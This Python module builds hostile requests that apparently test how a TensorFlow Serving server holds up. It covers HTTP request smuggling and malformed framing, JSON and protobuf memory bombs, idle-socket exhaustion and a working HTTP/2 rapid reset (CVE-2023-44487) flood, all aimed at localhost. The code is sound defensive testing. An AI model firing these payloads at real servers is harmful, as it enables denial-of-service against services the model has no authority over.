"""What a hostile or unlucky client sends a TF Serving REST/gRPC server: the cases the server
must withstand, declared once beside it, sent by tests/test_hostile.py (each case alone) and
benchmarks.hostile (all in a loop, beside good clients).

Every attack is aimed at one model's signature with one input (`Target`).

Example:
    >>> target = Target("kerasbert", "sentiment", "text", '"a fine film"')
    >>> [name for name, _ in framing_attacks(target)][:2]
    ['Content-Length: -1 (was: read to EOF, 320 MiB accepted)', 'Content-Length: -5 (was: 500)']
"""

from __future__ import annotations

import re
import socket
import time
from typing import NamedTuple


class Target(NamedTuple):
    model: str
    signature: str
    input: str
    value_json: str  # one good instance, as JSON

    def body(self) -> bytes:
        return f'{{"signature_name": "{self.signature}", "instances": [{self.value_json}]}}'.encode()

    def head(self) -> bytes:
        return f"POST /v1/models/{self.model}:predict HTTP/1.1\r\nHost: x\r\n".encode()

    def post(self, body: bytes | None = None, headers: bytes = b"") -> bytes:
        """A whole request: `body` (default: the good one) after `headers` and its Content-Length."""
        body = self.body() if body is None else body
        return self.head() + headers + b"Content-Length: %d\r\n\r\n" % len(body) + body


def framing_attacks(target: Target) -> list[tuple[str, bytes]]:
    """Raw requests that break HTTP/1.1 framing or the JSON inside: each must get exactly one
    4xx answer, and the server must answer the next good request."""
    body, head = target.body(), target.head()
    prefix = f'{{"signature_name": "{target.signature}", "instances": ['.encode()
    return [
        ("Content-Length: -1 (was: read to EOF, 320 MiB accepted)", head + b"Content-Length: -1\r\n\r\n" + body),
        ("Content-Length: -5 (was: 500)", head + b"Content-Length: -5\r\n\r\n" + body),
        ("Content-Length: abc (was: 500, then the body parsed as a second request)",
         head + b"Content-Length: abc\r\n\r\n" + body),
        ("two conflicting Content-Length (was: the first won)",
         head + b"Content-Length: %d\r\nContent-Length: 5\r\n\r\n" % len(body) + body),
        ("Content-Length and Transfer-Encoding together (smuggling)",
         head + b"Content-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n" % len(body) + body),
        ("Transfer-Encoding then a Content-Length hiding a second request",
         head + b"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n"
                b"GET /v1/models/x HTTP/1.1\r\n\r\n"),
        ("a chunk size that is not hex", head + b"Transfer-Encoding: chunked\r\n\r\nzz\r\n" + body + b"\r\n0\r\n\r\n"),
        ("a request line that is not HTTP", b"GARBAGE\r\n\r\n"),
        ("a 20 KB header", b"GET /v1/models/x HTTP/1.1\r\nX: " + b"a" * 20000 + b"\r\n\r\n"),
        ("200 headers", b"GET /v1/models/x HTTP/1.1\r\n" + b"".join(b"X%d: y\r\n" % i for i in range(200)) + b"\r\n"),
        ("a gzip Content-Encoding: the body is read as sent, as TF Serving reads it",
         head + b"Content-Encoding: gzip\r\nContent-Length: 5\r\n\r\nabcde"),
        ("a lone surrogate in a string (was: 500)", target.post(prefix + b'"\\ud800"]}')),
        ("a 5000-digit integer (was: 500)", target.post(prefix + b"1" + b"0" * 4999 + b"]}")),
    ]


def memory_bombs(target: Target, max_body_bytes: int) -> list[tuple[str, bytes]]:
    """Bodies that cost a naive server far more memory than their size, each within
    --max_body_bytes, and one far over it."""
    prefix = f'{{"signature_name": "{target.signature}", "inputs": ['.encode()
    dense = (max_body_bytes - 512) // 2
    return [("dense zeros", prefix + b",".join([b"0"] * dense) + b"]}"),
            ("nested lists", prefix + b",".join([b"[0]"] * (max_body_bytes // 4 - 32)) + b"]}"),
            ("objects", f'{{"signature_name": "{target.signature}", "instances": ['.encode()
             + b",".join([b'{"x": 1}'] * (max_body_bytes // 9 - 16)) + b"]}"),
            ("10x --max_body_bytes", prefix + b"0," * (5 * max_body_bytes) + b"0]}")]


def exchange(port: int, data: bytes, quiet: float = 1.0) -> bytes:
    """Sends `data` on a raw socket to 127.0.0.1:port; returns every byte the server sent
    until it closed the connection or stayed quiet for `quiet` seconds."""
    with socket.create_connection(("127.0.0.1", port)) as sock:
        sock.settimeout(quiet)
        try:
            sock.sendall(data)
        except (BrokenPipeError, ConnectionResetError):  # answered and closed before all was sent
            pass
        received = b""
        try:
            while chunk := sock.recv(65536):
                received += chunk
        except (socket.timeout, ConnectionResetError):
            pass
    return received


def statuses(received: bytes) -> list[int]:
    """The status codes of the HTTP responses in `received`, in order."""
    return [int(code) for code in re.findall(rb"HTTP/1\.[01] (\d{3}) ", received)]


def predict_request(model: str, signature: str, **inputs):
    """A gRPC PredictRequest for `model`'s `signature` with `inputs` (name: TensorProto)."""
    from tensorflow_serving.apis import model_pb2, predict_pb2

    return predict_pb2.PredictRequest(model_spec=model_pb2.ModelSpec(name=model, signature_name=signature),
                                      inputs=inputs)


def declared(dtype: int, dims: list[int], **fields):
    """A TensorProto that declares `dtype` and shape `dims` whatever its `fields` hold: the
    gRPC client's way to claim a huge or malformed tensor in a few bytes."""
    from tensorflow.core.framework import tensor_pb2

    return tensor_pb2.TensorProto(dtype=dtype, tensor_shape={"dim": [{"size": size} for size in dims]}, **fields)


def length_delimited(field: int, payload: bytes) -> bytes:
    """One length-delimited protobuf field (wire type 2), as it is on the wire."""
    from google.protobuf.internal.encoder import _VarintBytes

    return _VarintBytes(field << 3 | 2) + _VarintBytes(len(payload)) + payload


def with_values(model: str, signature: str, name: str, dtype: int, dims: list[int], values: bytes) -> bytes:
    """A serialized PredictRequest whose input `name` declares `dtype` and `dims` and carries
    `values`, raw TensorProto fields: far more values than the shape takes, e.g. 60 M packed
    int_val zeros, `length_delimited(7, bytes(60_000_000))` (58 KB gzip-compressed), or 20 M
    empty string_val, `length_delimited(8, b"") * 20_000_000`. Built as bytes: a Python client
    takes minutes to fill such a field."""
    tensor = declared(dtype, dims).SerializeToString() + values
    return (predict_request(model, signature).SerializeToString()
            + length_delimited(2, length_delimited(1, name.encode()) + length_delimited(2, tensor)))


# --- Connections: idle sockets, rapid reset ------------------------------------------------------


def idle_sockets(port: int, count: int, timeout: float = 5.0) -> list[socket.socket]:
    """`count` connections to 127.0.0.1:port that send nothing (as many as the server
    accepts). The caller closes them."""
    held = []
    for _ in range(count):
        try:
            held.append(socket.create_connection(("127.0.0.1", port), timeout=timeout))
        except OSError:
            break
    return held


def closed_by_server(sock: socket.socket) -> bool:
    """True if the server has closed `sock` (EOF or reset), without waiting; what the server
    sent before (an HTTP/2 server's SETTINGS) is read and dropped."""
    sock.setblocking(False)
    try:
        while sock.recv(65536):
            pass
        return True
    except BlockingIOError:
        return False
    except OSError:
        return True
    finally:
        sock.setblocking(True)


HTTP2_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
PREDICT_PATH = b"/tensorflow.serving.PredictionService/Predict"


def http2_frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One HTTP/2 frame (RFC 9113 section 4.1)."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def grpc_call_headers(path: bytes = PREDICT_PATH) -> bytes:
    """The HPACK block of a gRPC call's HEADERS: static-table entries and literals without
    indexing (RFC 7541), so every stream's block is the same bytes."""
    def literal(index: int, value: bytes) -> bytes:  # literal without indexing, indexed name (index < 15)
        return bytes([index, len(value)]) + value
    return (b"\x83\x86"  # :method POST, :scheme http
            + literal(4, path) + literal(1, b"x")  # :path, :authority
            + b"\x0f\x10" + bytes([16]) + b"application/grpc"  # content-type (static index 31)
            + b"\x00\x02te\x08trailers")


def rapid_reset(port: int, streams: int = 50_000, batch: int = 500) -> dict:
    """HTTP/2 rapid reset (CVE-2023-44487) on one connection: `streams` gRPC calls opened
    with HEADERS and cancelled at once with RST_STREAM, sent as fast as the socket takes
    them. Returns the streams sent, the seconds taken and whether the server closed the
    connection (GOAWAY or EOF)."""
    import threading

    sock = socket.create_connection(("127.0.0.1", port))
    done, closed = threading.Event(), threading.Event()

    def drain():  # the server's SETTINGS, RST_STREAMs and GOAWAY: read, so its writes never block
        try:
            while sock.recv(65536):
                pass
        except OSError:  # reset by the server, or closed by us once done
            pass
        if not done.is_set():
            closed.set()
        done.set()

    sock.sendall(HTTP2_PREFACE + http2_frame(4, 0, 0) + http2_frame(4, 1, 0))  # SETTINGS, ACK of the server's
    reader = threading.Thread(target=drain, daemon=True)
    reader.start()
    headers = grpc_call_headers()
    sent, started = 0, time.monotonic()
    try:
        while sent < streams and not done.is_set():
            frames = bytearray()
            for stream in range(2 * sent + 1, 2 * (sent + batch) + 1, 2):
                frames += http2_frame(1, 0x4, stream, headers)  # HEADERS, END_HEADERS
                frames += http2_frame(3, 0, stream, (8).to_bytes(4, "big"))  # RST_STREAM CANCEL
            sock.sendall(frames)
            sent += batch
    except OSError:
        pass
    result = {"streams": min(sent, streams), "seconds": time.monotonic() - started, "closed_by_server": closed.is_set()}
    done.set()
    sock.close()
    return result


# --- Model work: big requests, cancelled calls (issue 53) ----------------------------------------


def big_requests(model: str = "kerasbert") -> list[tuple[str, bytes]]:
    """Small bodies (under 4 MiB) asking for unbounded model work, as issue 53 found them:
    each must be answered 504 or 400 with the server's memory and CPU bounded meanwhile.
    Raw REST requests, each closing its connection once answered."""
    import json

    def request(signature: str, document: dict) -> bytes:
        body = json.dumps({"signature_name": signature, **document}).encode()
        return Target(model, signature, "", "").post(body, b"Connection: close\r\n")

    ids = [[7] * 512] * 800
    return [("embed: 15,000 texts of 200 characters", request("embed", {"instances": ["a fine film " * 16] * 15_000})),
            ("embed_tokens: [800, 512] ids", request("embed_tokens", {"inputs": {
                "token_ids": ids, "segment_ids": [[0] * 512] * 800, "padding_mask": [[1] * 512] * 800}})),
            ("embed: 100,000 one-character texts", request("embed", {"instances": ["a"] * 100_000}))]


def big_text_rows(tagger: str = "ner", reader: str = "squad", window_pieces: int = 2100) -> list[tuple[str, bytes]]:
    """Issue 70: text rows whose cost is their length, to kerasbert's `entities` (model `tagger`)
    and `answer` (model `reader`), 32 rows each (a batch at most, with serving/batching.config):
    a word of one-character pieces of 0.08 MB and of 0.3 MB beside 31 short texts; contexts of
    the most windows the reader answers (`window_pieces` word pieces: 16 windows of demo-tasks'
    256 at stride 128, 15 of bench-tasks' 384). Each must be answered (sliced by its cost) or
    refused 400 when one row costs more than a call (with batching off, half the memory budget:
    1,824 padded tokens at bench-hostile's --max_body_bytes; a 16-window row costs ~4,300), never
    kill the server. Raw REST requests, each closing its connection once answered."""
    import json

    def request(model: str, signature: str, document: dict) -> bytes:
        body = json.dumps({"signature_name": signature, **document}).encode()
        return Target(model, signature, "", "").post(body, b"Connection: close\r\n")

    return [(f"entities: one {size} MB word of one-character pieces, 31 short texts",
             request(tagger, "entities", {"instances": ["a," * int(size * 500_000)] + ["a fine film"] * 31}))
            for size in (0.08, 0.3)] + [
        ("answer: 32 contexts of the most windows", request(reader, "answer", {"inputs": {
            "question": ["which film ?"] * 32, "context": [" ".join(["film"] * window_pieces)] * 32}}))]
